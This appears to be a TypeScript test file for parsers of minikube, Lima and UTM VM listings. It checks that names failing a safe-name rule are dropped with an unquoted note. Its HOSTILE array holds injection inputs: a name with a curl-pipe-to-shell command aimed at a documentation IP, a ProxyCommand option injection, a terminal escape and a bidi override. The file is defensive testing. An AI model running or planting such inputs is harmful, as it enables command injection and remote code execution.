// A name from a VM listing may reach a command line or the terminal: one that fails the tool's name rule is left
// out with a note (never quoted), and the listing's other VMs are kept.
import { readFileSync } from 'node:fs';
import { parseLimaList } from '@src/shared/parsers/providers/lima';
import { parseMinikubeProfileList } from '@src/shared/parsers/providers/minikube';
import { parseUtmctlList } from '@src/shared/parsers/providers/utm';
import { describe, expect, it } from 'vitest';

const real = (path: string): string => readFileSync(new URL(`../../../fixtures/real/${path}`, import.meta.url), 'utf8');
const HOSTILE = ['dev; curl 203.0.113.9 | sh', '-oProxyCommand=sh', 'vm\u001b]0;x\u0007', 'ev\u202elive', ''];

describe('listed names that are not safe', () => {
  it.each(HOSTILE.filter(Boolean))('minikube: %j is left out with a note that does not quote it', (name) => {
    const list = JSON.parse(real('minikube-profile-list/headlamp-plugins-json-vfkit-nat-DECOMMENTED.json'));
    const good = list.valid[0].Name as string;
    list.valid.push({ ...structuredClone(list.valid[0]), Name: name });
    const result = parseMinikubeProfileList(JSON.stringify(list));
    expect(result.ok && result.value.map((vm) => vm.name)).toEqual([good]);
    expect(result.ok && result.notes).toEqual([
      'minikube profile list -o json: left out a profile whose name is not a safe name',
    ]);
  });

  it('Lima: leaves out the instances with unsafe names and counts them', () => {
    const instance = JSON.parse(real('lima/xbar4-limactl-list-json-jq-one-running.json'));
    const stream = HOSTILE.slice(0, 2)
      .map((name) => JSON.stringify({ ...instance, name }))
      .concat(JSON.stringify(instance))
      .join('\n');
    const result = parseLimaList(stream);
    expect(result.ok && result.value.map((vm) => vm.name)).toEqual([instance.name]);
    expect(result.ok && result.notes).toEqual([
      'limactl list --json: left out 2 instances whose names are not a safe name',
    ]);
  });

  it('UTM: keeps a name with spaces, leaves out one with a bidi override', () => {
    const header = 'UUID                                 Status   Name';
    const result = parseUtmctlList(
      `${header}\nC0DE927B-F426-4ABA-A6E7-E30AA429371F started Ubuntu 24.04 (arm)\n` +
        `C0DE927B-F426-4ABA-A6E7-E30AA429371E stopped ev\u202elive\n`,
    );
    expect(result.ok && result.value.map((vm) => vm.name)).toEqual(['Ubuntu 24.04 (arm)']);
    expect(result.ok && result.notes).toHaveLength(1);
  });
});
